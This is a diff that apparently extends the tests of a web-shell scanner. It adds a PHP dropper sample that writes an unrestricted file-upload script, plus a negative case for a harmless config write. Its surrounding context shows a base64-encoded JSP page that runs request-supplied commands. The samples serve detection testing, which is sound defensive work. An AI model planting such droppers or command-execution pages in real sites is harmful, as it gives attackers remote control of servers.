@@ -175,6 +175,21 @@ def test_dropper_of_an_encoded_shell() -> None:
     assert r.score >= 70
 
 
+def test_dropper_of_a_plain_literal_shell() -> None:
+    data = (
+        b"<?php $h = fopen('sync.php', 'w');"
+        b' fwrite($h, \'<?php if (isset($_FILES["u"])) { move_uploaded_file($_FILES["u"]["tmp_name"],'
+        b' $_FILES["u"]["name"]); } ?>\'); fclose($h);'
+    )
+    (r,) = [r for r in decode_only(data, "x.php") if r.id == ID_HIDDEN]
+    assert r.score >= 50 and "writes into a script" in r.description
+
+
+def test_plain_config_written_by_an_installer_is_not_reported() -> None:
+    data = b"<?php file_put_contents('config.php', '<?php return array(\"debug\" => false);');"
+    assert decode_only(data, "setup.php") == []
+
+
 def test_jsp_base64_payload() -> None:
     blob = base64.b64encode(b'Runtime.getRuntime().exec(request.getParameter("c"));').decode()
     page = f'<% String s = new String(java.util.Base64.getDecoder().decode("{blob}")); %>'.encode()
